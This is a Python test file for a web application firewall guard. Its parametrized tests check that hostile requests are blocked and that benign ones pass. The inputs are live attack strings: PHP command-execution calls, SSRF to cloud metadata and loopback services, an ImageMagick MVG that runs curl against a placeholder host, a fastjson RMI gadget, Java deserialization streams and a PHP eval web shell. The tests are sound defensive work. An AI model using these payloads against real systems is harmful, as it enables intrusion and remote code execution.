    """The plain reading base64_text speeds up: base64.b64decode, UTF-8, then the readability test."""
    import binascii  # noqa: PLC0415  only this reference needs it

    from bastion.guards.waf.decode import _BASE64_SHAPE, _CODE_SYMBOLS, MIN_BASE64_TEXT  # noqa: PLC0415  internals

    if not _BASE64_SHAPE.fullmatch(value):
        return None
    padding = "=" * (-len(value) % 4) if "=" not in value else ""
    try:
        text = base64.b64decode(value + padding, altchars=b"-_" if "-" in value or "_" in value else None).decode()
    except (binascii.Error, ValueError):
        return None
    if len(text) < MIN_BASE64_TEXT:
        return None
    printable = sum(1 for c in text if c.isprintable() or c in "\r\n\t\x00")  # NUL: PHP's serialized objects
    code = sum(c.isalnum() or c in _CODE_SYMBOLS for c in text)
    return text if printable / len(text) > 0.97 and code >= len(text) // 3 else None


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.text(
            alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/-_=", min_size=8, max_size=48
        ),
        st.text(max_size=40).map(lambda t: base64.b64encode(t.encode()).decode().rstrip("=")),
        st.text(max_size=40).map(lambda t: base64.urlsafe_b64encode(t.encode()).decode()),
        st.binary(min_size=4, max_size=40).map(lambda b: base64.b64encode(b).decode()),
    )
)
def test_base64_text_reads_as_the_plain_decoding_does(value: str) -> None:
    assert base64_text(value) == _base64_text_by_the_book(value)


@pytest.mark.parametrize(
    ("filename", "attack"),
    [
        ("base64_decode('c3lzdGVtKCJpZCIp')", True),
        ("call_user_func('sys'.'tem', 'id')", True),
        ("file_get_contents($f).txt", True),
        ("copy (2).docx", False),
        ("date(1).pdf", False),
        ("max(final).png", False),
    ],
)
def test_a_file_name_is_a_php_call_only_with_a_string_or_variable_argument(
    guard: WAFGuard, filename: str, attack: bool
) -> None:
    body = (
        f'--b\r\nContent-Disposition: form-data; name="f"; filename="{filename}"\r\n\r\nhello\r\n--b--\r\n'
    ).encode()
    verdict = verdict_of(guard, request("POST", body=body, content_type="multipart/form-data; boundary=b"))
    assert (verdict is not None) is attack


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        ("redirect_uri=http://127.0.0.1:53682/callback", False),  # a native app's sign-in (RFC 8252, 7.3)
        ("redirect_uri=http%3A%2F%2F%5B%3A%3A1%5D%3A8080%2Fauth%2Fcallback", False),
        ("redirect_uri=http://localhost:8085/", False),
        ("redirect_uri=http://[::1]:6379/admin", True),  # not a sign-in's end: Redis's port and an admin page
        ("redirect_uri=http://169.254.169.254/latest/meta-data/", True),  # loopback only
        ("redirect_uri=http://127.0.0.1:8080/callback@evil.example", True),
        ("callback_url=http://127.0.0.1:53682/callback", True),  # a webhook: the server fetches it
    ],
)
def test_an_oauth_redirect_uri_to_loopback_is_a_native_apps(guard: WAFGuard, query: str, blocked: bool) -> None:
    assert (verdict_of(guard, request(query=query)) is not None) is blocked


def test_a_url_inside_another_urls_query_is_read_too(guard: WAFGuard) -> None:
    nested = "next=https://r.example.net/go?to=http%253A%252F%252F127.0.0.1%253A2375%252Fcontainers%252Fjson"
    assert verdict_of(guard, request(query=nested)) is not None
    public = "next=https://www.google.com/url?q=https%253A%252F%252Fexample.com%252Fdocs&sa=D"
    assert verdict_of(guard, request(query=public)) is None


def test_a_java_base_stack_frame_is_not_a_class_an_exploit_names(guard: WAFGuard) -> None:
    trace = (
        'Exception in thread "main" java.lang.IllegalStateException: full\n'
        "\tat java.base/java.lang.Thread.run(Thread.java:833)"
    )
    assert verdict_of(guard, request("POST", body=json.dumps({"log": trace}), content_type="application/json")) is None
    assert verdict_of(guard, request(query="c=java.lang.Thread")) is not None


def _multipart_file(filename_header: str, content: str) -> str:
    return (
        f'--b\r\nContent-Disposition: form-data; name="file"; filename="{filename_header}"\r\n'
        f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n--b--\r\n"
    )


def test_the_fifteenth_blind_sets_techniques_are_refused(guard: WAFGuard) -> None:
    """From the fifteenth blind set's misses, each read as a technique: a file name a line break
    splits, a callee decoded from a literal, a by-name call with a concatenated name, the machine's
    own address and port as a path segment, ImageMagick's delegate break-out, a Cypher tautology then
    RETURN, fastjson's descriptor-dressed class names, a gzip'd Java object percent-encoded in a form."""
    split = _multipart_file("name.txt\r\nContent-Type: text/html", "hello")
    assert verdict_of(guard, request("POST", body=split, content_type="multipart/form-data; boundary=b"))
    for value in ("(base64_decode('c3lzdGVt'))('id');", "(str_rot13('flfgrz'))('id');",
                  "send('sy'+'stem','id')", "getattr(os, 'sys'+'tem')('id')", "' || true RETURN u //"):  # fmt: skip
        assert verdict_of(guard, request(query="q=" + quote(value))), value
    for path in ("/fetch/127.0.0.1:8080/actuator/env", "/proxy/[::1]:6379/info"):
        assert verdict_of(guard, request(path=path)), path
    mvg = "push graphic-context\nfill 'url(https://a.example/i.jpg\"|curl \"http://x.example/s)'\n"
    upload = _multipart_file("x.mvg", mvg)
    assert verdict_of(guard, request("POST", body=upload, content_type="multipart/form-data; boundary=b"))
    fastjson = json.dumps({"@type": "LLcom.sun.rowset.JdbcRowSetImpl;;", "dataSourceName": "rmi://x.example/a"})
    assert verdict_of(guard, request("POST", body=fastjson, content_type="application/json"))
    stream = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(range(64))
    view_state = base64.b64encode(gzip.compress(stream)).decode()
    form = "javax.faces.ViewState=" + quote(view_state, safe="")
    assert verdict_of(guard, request("POST", body=form, content_type="application/x-www-form-urlencoded"))


def test_what_the_fifteenth_sets_techniques_leave_alone(guard: WAFGuard) -> None:
    """A count of 0 in a header that names no host, JSON Schema's `$comment`, a host named in a path
    without a port, and relative links in rich text (an HTML `href`, a Markdown link whose anchor came
    percent-encoded)."""
    assert verdict_of(guard, request(headers=[("x-chunk-index", "0")])) is None
    assert verdict_of(guard, request(headers=[("x-forwarded-host", "0")]))
    schema = json.dumps({"$schema": "https://json-schema.org/draft/2020-12/schema", "$comment": "v2 fields"})
    assert verdict_of(guard, request("POST", body=schema, content_type="application/json")) is None
    assert verdict_of(guard, request(path="/api/hosts/127.0.0.1/status")) is None
    html = '<p>See the <a href="../handbook/pto.html">PTO policy</a> and the <a href="../../benefits/index.html">ones'
    html += " we offer</a>.</p>"
    markdown = "See [setup guide](../docs/setup.md) and [FAQ](../../FAQ.md#what-is-1%3D1) for the details."
    for text in (html, markdown):
        body = "comment=" + quote(text, safe="")
        assert verdict_of(guard, request("POST", body=body, content_type="application/x-www-form-urlencoded")) is None


def test_the_sixteenth_blind_sets_techniques_are_refused(guard: WAFGuard) -> None:
    """From the sixteenth blind set's misses, each read as a technique: a gzip'd Java object whose
    trailer checksum is wrong (a streaming reader runs the object before it checks), a data: URI
    percent-encoded letter by letter, the metadata services of Tencent Cloud and Equinix Metal by name,
    .NET reflection from an expression, XAML's ObjectDataProvider, a ViewState wrapping a
    BinaryFormatter stream."""
    stream = gzip.compress(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(range(64)))
    broken = stream[:-8] + b"\x00" * 8  # CRC-32 and length zeroed
    form = "javax.faces.ViewState=" + quote(base64.b64encode(broken).decode(), safe="")
    assert verdict_of(guard, request("POST", body=form, content_type="application/x-www-form-urlencoded"))
    uri = "data:;base64," + base64.b64encode(b"<?php eval($_POST[0]); ?>").decode()
    assert verdict_of(guard, request(query="plugin=" + "".join(f"%{byte:02X}" for byte in uri.encode())))
    for value in (
        "http://metadata.tencentyun.com/latest/meta-data/",
        "https://metadata.platformequinix.com/metadata",
        '"".GetType().Assembly.DefinedTypes.Where(it.Name == "AppDomain")',
        '<ObjectDataProvider MethodName="Start" ObjectType="{x:Type Diag:Process}"/>',
        "/wEy0gUAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg==",
    ):
        assert verdict_of(guard, request(query="x=" + quote(value, safe=""))), value


def test_what_the_sixteenth_sets_techniques_leave_alone(guard: WAFGuard) -> None:
    """A network in CIDR notation (a device's static address), and an XML document that names its own
    stylesheet by a relative path (a Maven POM); a private address with a path, and a stylesheet
    written into the document or served from elsewhere, are still refused."""
    config = json.dumps({"config": {"static_ip": "192.168.1.162/24", "ntp": "10.0.0.1"}})
    assert verdict_of(guard, request("POST", body=config, content_type="application/json")) is None
    assert verdict_of(guard, request(query="target=" + quote("10.0.0.1/admin/reset")))
    pom = '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="style.xsl"?>\n'
    pom += "<project><groupId>com.acme</groupId></project>"
    assert verdict_of(guard, request("POST", body=pom, content_type="application/xml")) is None
    for href in ("#s", "//evil.example/x.xsl", "data:text/xsl;base64,PHg+"):
        xml = f'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="{href}"?>\n<r/>'
        assert verdict_of(guard, request("POST", body=xml, content_type="application/xml")), href
